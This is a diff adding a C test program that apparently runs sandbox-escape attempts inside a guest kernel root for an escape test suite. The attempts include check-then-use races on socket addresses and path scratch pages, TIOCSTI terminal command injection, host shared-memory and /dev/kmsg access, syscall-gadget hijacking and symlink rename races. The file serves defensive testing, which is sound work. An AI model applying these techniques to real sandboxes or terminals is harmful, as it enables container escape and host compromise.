@@ -1,0 +1,363 @@
+/* Attacks on the guest kernel, compiled statically by tests/escape.rs and run inside a guest
+ * root. Each prints one line the test checks. */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ipc.h>
+#include <sys/mman.h>
+#include <sys/shm.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <netinet/in.h>
+#include <net/if.h>
+#include <arpa/inet.h>
+#include <termios.h>
+#include <unistd.h>
+
+static volatile int stop;
+static const char *outside;
+static long iterations;
+
+/* --- flip: another thread changes the socket address in guest memory between check and use.
+ * The connects do not block: once the bait's backlog is full they fail with EAGAIN. */
+static struct sockaddr_un flip_addr;
+static void *flipper(void *arg) {
+    (void)arg;
+    struct sockaddr_in inet = {.sin_family = AF_INET, .sin_port = htons(1), .sin_addr.s_addr = htonl(0x7f000001)};
+    struct sockaddr_un un = {.sun_family = AF_UNIX};
+    strncpy(un.sun_path, outside, sizeof un.sun_path - 1);
+    while (!stop) {
+        memcpy(&flip_addr, &inet, sizeof inet);
+        __atomic_thread_fence(__ATOMIC_SEQ_CST);
+        memcpy(&flip_addr, &un, sizeof un);
+        __atomic_thread_fence(__ATOMIC_SEQ_CST);
+    }
+    return NULL;
+}
+
+static int flip(void) {
+    pthread_t t;
+    pthread_create(&t, NULL, flipper, NULL);
+    long escaped = 0;
+    for (long i = 0; i < iterations; i++) {
+        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
+        if (connect(s, (struct sockaddr *)&flip_addr, sizeof flip_addr) == 0) escaped++;
+        close(s);
+    }
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("flip escaped=%ld of %ld\n", escaped, iterations);
+    return 0;
+}
+
+/* --- scratch: find the guest kernel's scratch page (the host path of data/a it wrote for an
+ * open) and overwrite it with the host path of data/b while another thread opens data/a: an
+ * open that reads "b" used a path the guest changed after the guest kernel's check. */
+static char *target_page;
+static char swapped_path[4096];
+static int copy_in[2];
+static void *overwriter(void *arg) {
+    (void)arg;
+    size_t n = strlen(swapped_path) + 1;
+    long writable = 0;
+    while (!stop) {
+        /* write() then read() into the page: EFAULT instead of a crash when it is read-only. */
+        if (write(copy_in[1], swapped_path, n) != (ssize_t)n) break;
+        if (read(copy_in[0], target_page, n) == (ssize_t)n) writable++;
+        else { char junk[4096]; if (read(copy_in[0], junk, n) < 0) break; }
+    }
+    return (void *)writable;
+}
+
+/* Whether [at, at+len) is readable: write() it into a pipe (EFAULT if not). */
+static int readable(const void *at, size_t len, char *out) {
+    int p[2];
+    if (pipe(p)) return 0;
+    int ok = write(p[1], at, len) == (ssize_t)len && read(p[0], out, len) == (ssize_t)len;
+    close(p[0]);
+    close(p[1]);
+    return ok;
+}
+
+static int scratch(void) {
+    close(open("/data/a", O_RDONLY));
+    /* The guest kernel maps its scratch with mmap(NULL): just above our next mapping. */
+    char *probe = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    char *found = NULL;
+    static char buf[4096];
+    for (int i = 1; i < 4096 && !found; i++) {
+        char *page = probe + 4096L * i;
+        if (!readable(page, sizeof buf, buf)) continue;
+        buf[sizeof buf - 1] = 0;
+        size_t n = strlen(buf);
+        if (buf[0] == '/' && n > 7 && !strcmp(buf + n - 7, "/data/a") && strcmp(buf, "/data/a") != 0) found = page;
+    }
+    if (!found) {
+        printf("scratch found=0 writable=0 escaped=0\n");
+        return 0;
+    }
+    strcpy(swapped_path, buf);
+    swapped_path[strlen(swapped_path) - 1] = 'b';
+    target_page = found;
+    if (pipe(copy_in)) return 1;
+    int mp = mprotect(found, 4096, PROT_READ | PROT_WRITE);
+    int mu = munmap(found, 4096);
+    void *mf = mmap(found, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+    pthread_t t;
+    pthread_create(&t, NULL, overwriter, NULL);
+    long escaped = 0;
+    for (long i = 0; i < iterations; i++) {
+        int fd = open("/data/a", O_RDONLY);
+        char c = 0;
+        if (fd >= 0 && read(fd, &c, 1) == 1 && c == 'b') escaped++;
+        if (fd >= 0) close(fd);
+    }
+    stop = 1;
+    void *w;
+    pthread_join(t, &w);
+    printf("scratch found=1 writable=%ld escaped=%ld mprotect=%d munmap=%d mmap-fixed=%d\n", (long)w, escaped,
+           mp == 0, mu == 0, mf != MAP_FAILED);
+    return 0;
+}
+
+/* --- wrongfile: two threads open their own file at once; each must read its own. */
+static long mismatches[2];
+static void *opener(void *arg) {
+    long me = (long)arg;
+    const char *path = me ? "/data/b" : "/data/a";
+    char want = me ? 'b' : 'a';
+    for (long i = 0; i < iterations; i++) {
+        int fd = open(path, O_RDONLY);
+        char c = 0;
+        if (fd < 0 || read(fd, &c, 1) != 1 || c != want) mismatches[me]++;
+        if (fd >= 0) close(fd);
+    }
+    return NULL;
+}
+
+static int wrongfile(void) {
+    /* A path call first: the threads start with whatever scratch their parent has. */
+    close(open("/data/a", O_RDONLY));
+    pthread_t t[2];
+    for (long i = 0; i < 2; i++) pthread_create(&t[i], NULL, opener, (void *)i);
+    for (int i = 0; i < 2; i++) pthread_join(t[i], NULL);
+    printf("wrongfile mismatches=%ld of %ld\n", mismatches[0] + mismatches[1], 2 * iterations);
+    return 0;
+}
+
+/* --- tty: push input into the terminal on descriptor 0. */
+static int tty(void) {
+    const char *cmd = "echo INJECTED\n";
+    int pushed = 0, err = 0;
+    for (const char *p = cmd; *p; p++) {
+        if (ioctl(0, TIOCSTI, p) == 0) pushed++;
+        else err = errno;
+    }
+    /* The same request with high bits set: the host reads a 32-bit command. */
+    unsigned long wide = 0xffffffff00000000UL | TIOCSTI;
+    if (syscall(SYS_ioctl, 0, wide, "Z") == 0) pushed++;
+    int disc = 0;
+    int setd = ioctl(0, TIOCSETD, &disc);
+    int setd_err = setd ? errno : 0;
+    printf("tiocsti pushed=%d errno=%d tiocsetd=%d errno=%d\n", pushed, err, setd, setd_err);
+    return 0;
+}
+
+/* --- shm: read the host's SysV segment with key argv[2]. */
+static int shm(const char *key) {
+    int id = shmget((key_t)strtol(key, NULL, 0), 0, 0);
+    if (id < 0) {
+        printf("shm refused %d\n", errno);
+        return 0;
+    }
+    char *p = shmat(id, NULL, SHM_RDONLY);
+    if (p == (void *)-1) {
+        printf("shm refused %d\n", errno);
+        return 0;
+    }
+    printf("shm ESCAPED %.32s\n", p);
+    return 0;
+}
+
+/* --- mknod: a device node for the host's kernel log. */
+static int mknod_kmsg(const char *path) {
+    if (mknod(path, S_IFCHR | 0600, makedev(1, 11)) != 0) {
+        printf("mknod refused %d\n", errno);
+        return 0;
+    }
+    int fd = open(path, O_RDONLY | O_NONBLOCK);
+    char buf[64];
+    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
+    unlink(path);
+    printf("mknod ESCAPED read=%zd\n", n);
+    return 0;
+}
+
+/* --- channel: register an empty file as the sigsys stub's channel, through a `syscall` in the
+ * stub's own code page ("syscall; mov [r13 + 0x90], rax; ret", so that it comes back here). */
+static int channel(void) {
+    const unsigned char pattern[] = {0x0f, 0x05, 0x49, 0x89, 0x85, 0x90, 0x00, 0x00, 0x00, 0xc3};
+    unsigned char *base = (unsigned char *)0x3e5a00000000UL;
+    static unsigned char code[4096];
+    if (!readable(base, sizeof code, (char *)code)) {
+        printf("channel absent\n");
+        return 0;
+    }
+    long at = -1;
+    for (long i = 0; i + (long)sizeof pattern <= (long)sizeof code && at < 0; i++)
+        if (!memcmp(code + i, pattern, sizeof pattern)) at = i;
+    if (at < 0) {
+        printf("channel absent\n");
+        return 0;
+    }
+    int fd = memfd_create("empty", 0);
+    static long frame[32];
+    long ret;
+    register long r13 __asm__("r13") = (long)frame;
+    register long rdi __asm__("rdi") = 0x766d6c62;
+    register long rsi __asm__("rsi") = fd;
+    register long rdx __asm__("rdx") = 0;
+    register long r10 __asm__("r10") = 0;
+    __asm__ volatile("call *%[t]"
+                     : "=a"(ret), "+r"(rdi), "+r"(rsi), "+r"(rdx), "+r"(r10)
+                     : [t] "r"(base + at), "a"(157L), "r"(r13)
+                     : "rcx", "r11", "r8", "r9", "memory");
+    printf("channel registered=%ld\n", ret);
+    long pid = 0;
+    for (int i = 0; i < 100; i++) pid = syscall(SYS_getpid);
+    uid_t u = getuid();
+    printf("channel alive pid=%ld uid=%d\n", pid, (int)u);
+    return 0;
+}
+
+/* --- swap: a directory on the way to a socket is exchanged with a symbolic link out of the
+ * root while another thread connects to (and sends datagrams to) the socket beneath it:
+ * data/d/sock and data/d/dgram, with data/l the link. Relative paths, so that the same
+ * program run natively from the root's directory shows the race can be won. */
+static void *swapper(void *arg) {
+    (void)arg;
+    while (!stop) syscall(SYS_renameat2, AT_FDCWD, "data/d", AT_FDCWD, "data/l", 2 /* RENAME_EXCHANGE */);
+    return NULL;
+}
+
+static int swap(void) {
+    struct sockaddr_un st = {.sun_family = AF_UNIX, .sun_path = "data/d/sock"};
+    struct sockaddr_un dg = {.sun_family = AF_UNIX, .sun_path = "data/d/dgram"};
+    pthread_t t;
+    pthread_create(&t, NULL, swapper, NULL);
+    long connected = 0, sent = 0;
+    int d = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+    for (long i = 0; i < iterations; i++) {
+        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
+        if (connect(s, (struct sockaddr *)&st, sizeof st) == 0) connected++;
+        close(s);
+        if (sendto(d, "x", 1, 0, (struct sockaddr *)&dg, sizeof dg) == 1) sent++;
+    }
+    stop = 1;
+    pthread_join(t, NULL);
+    printf("swap connected=%ld sent=%ld of %ld\n", connected, sent, iterations);
+    return 0;
+}
+
+/* --- netcfg: add (or remove) address 127.77.0.1 as interface alias lo:vmlab, a change to
+ * the network configuration of whatever namespace the program runs in. */
+static int netcfg(const char *what) {
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct ifreq ifr;
+    memset(&ifr, 0, sizeof ifr);
+    strcpy(ifr.ifr_name, "lo:vmlab");
+    int r;
+    if (!strcmp(what, "add")) {
+        struct sockaddr_in *in = (struct sockaddr_in *)&ifr.ifr_addr;
+        in->sin_family = AF_INET;
+        in->sin_addr.s_addr = inet_addr("127.77.0.1");
+        r = ioctl(s, SIOCSIFADDR, &ifr);
+    } else {
+        r = ioctl(s, SIOCGIFFLAGS, &ifr);
+        ifr.ifr_flags &= ~IFF_UP;
+        if (r == 0) r = ioctl(s, SIOCSIFFLAGS, &ifr);
+    }
+    printf("netcfg %s %s %d\n", what, r == 0 ? "done" : "refused", r == 0 ? 0 : errno);
+    return 0;
+}
+
+/* --- int80: a call of the i386 ABI, number 20 (getpid there, writev on x86-64). */
+static int int80(void) {
+    long ret;
+    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L), "b"(0L), "c"(0L), "d"(0L) : "r8", "r9", "r10", "r11", "memory");
+    printf("int80 ret=%ld\n", ret);
+    return 0;
+}
+
+/* --- threadpid: getpid in a new thread before the process made any other trapped call. */
+static long thread_pid;
+static void *pid_of_thread(void *arg) {
+    (void)arg;
+    thread_pid = syscall(SYS_getpid);
+    return NULL;
+}
+
+static int threadpid(void) {
+    pthread_t t;
+    pthread_create(&t, NULL, pid_of_thread, NULL);
+    pthread_join(t, NULL);
+    long main_pid = syscall(SYS_getpid);
+    printf("threadpid same=%d positive=%d\n", thread_pid == main_pid, thread_pid > 0);
+    return 0;
+}
+
+/* --- sockname: the addresses getsockname and getpeername return for a socket bound and
+ * connected by path (argv[2]). */
+static int sockname(const char *path) {
+    struct sockaddr_un a = {.sun_family = AF_UNIX}, got;
+    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
+    unlink(path);
+    int l = socket(AF_UNIX, SOCK_STREAM, 0), c = socket(AF_UNIX, SOCK_STREAM, 0);
+    if (bind(l, (struct sockaddr *)&a, sizeof a) || listen(l, 1) || connect(c, (struct sockaddr *)&a, sizeof a)) {
+        printf("sockname failed %d\n", errno);
+        return 0;
+    }
+    socklen_t n = sizeof got;
+    memset(&got, 0, sizeof got);
+    getsockname(l, (struct sockaddr *)&got, &n);
+    printf("sockname %s %d", got.sun_path, (int)n);
+    n = sizeof got;
+    memset(&got, 0, sizeof got);
+    getpeername(c, (struct sockaddr *)&got, &n);
+    printf(" peername %s %d", got.sun_path, (int)n);
+    n = 8; /* too small: truncated, the full length reported */
+    memset(&got, 0, sizeof got);
+    getsockname(l, (struct sockaddr *)&got, &n);
+    printf(" short %.6s %d\n", got.sun_path, (int)n);
+    unlink(path);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    setvbuf(stdout, NULL, _IONBF, 0);
+    if (argc < 2) return 2;
+    const char *mode = argv[1];
+    if (argc > 2) outside = argv[2];
+    iterations = argc > 3 ? atol(argv[3]) : 20000;
+    if (!strcmp(mode, "flip")) return flip();
+    if (!strcmp(mode, "scratch")) return scratch();
+    if (!strcmp(mode, "wrongfile")) return iterations = atol(argv[2]), wrongfile();
+    if (!strcmp(mode, "tty")) return tty();
+    if (!strcmp(mode, "shm")) return shm(argv[2]);
+    if (!strcmp(mode, "mknod")) return mknod_kmsg(argv[2]);
+    if (!strcmp(mode, "channel")) return channel();
+    if (!strcmp(mode, "int80")) return int80();
+    if (!strcmp(mode, "threadpid")) return threadpid();
+    if (!strcmp(mode, "sockname")) return sockname(argv[2]);
+    if (!strcmp(mode, "netcfg")) return netcfg(argv[2]);
+    if (!strcmp(mode, "swap")) return iterations = atol(argv[2]), swap();
+    return 2;
+}
